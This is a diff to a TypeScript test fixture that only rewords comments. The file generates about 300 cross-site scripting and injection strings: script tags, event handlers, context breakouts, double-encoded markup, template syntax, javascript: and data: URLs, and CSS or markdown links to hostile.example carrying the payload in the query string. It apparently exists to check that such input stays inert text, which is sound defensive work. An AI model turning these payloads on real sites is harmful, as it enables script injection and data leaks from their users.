@@ -1,4 +1,4 @@
-/** What a string tries to get done: run, speak, ask the network, leave the page, open a window, write into it. */
+/** What each string attempts: run code, alert, make requests, leave the page, open a window, write into it. */
 const DEEDS = [
   'globalThis.hostile=1',
   'alert(1)',
@@ -12,7 +12,7 @@ const escaped = (deed: string): string => deed.replaceAll("'", '&#39;');
 const encoded = (deed: string): string => encodeURIComponent(deed);
 const inBase64 = (deed: string): string => Buffer.from(`<script>${deed}</script>`).toString('base64');
 
-/** Ways that text has become markup, script, style or an address elsewhere. */
+/** Known ways for text to become markup, script, style or a URL. */
 const WAYS: readonly ((deed: string) => string)[] = [
   // elements
   (deed) => `<script>${deed}</script>`,
@@ -44,7 +44,7 @@ const WAYS: readonly ((deed: string) => string)[] = [
     `<style>@import "https://hostile.example/import.css?${encoded(deed)}"; *{background:url(https://hostile.example/background.png)}</style>`,
   (deed) => `<div style="background:url('https://hostile.example/inline.png');animation:x" onanimationstart="${deed}">`,
   (deed) => `<template><script>${deed}</script></template><slot name="${deed}">`,
-  // breaking out of what surrounds it
+  // breaking out of their context
   (deed) => `"><script>${deed}</script>`,
   (deed) => `'><img src=x onerror=${deed}>`,
   (deed) => `" onmouseover="${deed}" autofocus onfocus="${deed}" x="`,
@@ -54,7 +54,7 @@ const WAYS: readonly ((deed: string) => string)[] = [
   (deed) => `"}</script><script>${deed}</script>{"a":"`,
   (deed) => `');${deed};//`,
   (deed) => `\u2028${deed}\u2029\`\${${deed}}\``,
-  // encoded, so that decoding once too often makes it markup
+  // encoded, so that double decoding makes them markup
   (deed) => `&lt;script&gt;${escaped(deed)}&lt;/script&gt;`,
   (deed) => `%3Cscript%3E${encoded(deed)}%3C%2Fscript%3E`,
   (deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
@@ -65,7 +65,7 @@ const WAYS: readonly ((deed: string) => string)[] = [
   (deed) => `<%= ${deed} %> #{${deed}} \${${deed}}`,
   (deed) => `[press](javascript:${deed}) [data](data:text/html;base64,${inBase64(deed)})`,
   (deed) => `![picture](https://hostile.example/markdown.png?${encoded(deed)}) <https://hostile.example/auto>`,
-  // addresses
+  // URLs
   (deed) => `javascript:${deed}`,
   (deed) => `java\tscript:${deed}`,
   (deed) => `data:text/html;base64,${inBase64(deed)}`,
@@ -75,5 +75,5 @@ const WAYS: readonly ((deed: string) => string)[] = [
   (deed) => `counterbell://chat/1?${deed} //hostile.example/${encoded(deed)}.png`,
 ];
 
-/** 300 strings, each of which would do something somewhere if it were anything but text. */
+/** 300 strings, each of which would have an effect somewhere if it were treated as anything but text. */
 export const hostileStrings: readonly string[] = WAYS.flatMap((way) => DEEDS.map(way));
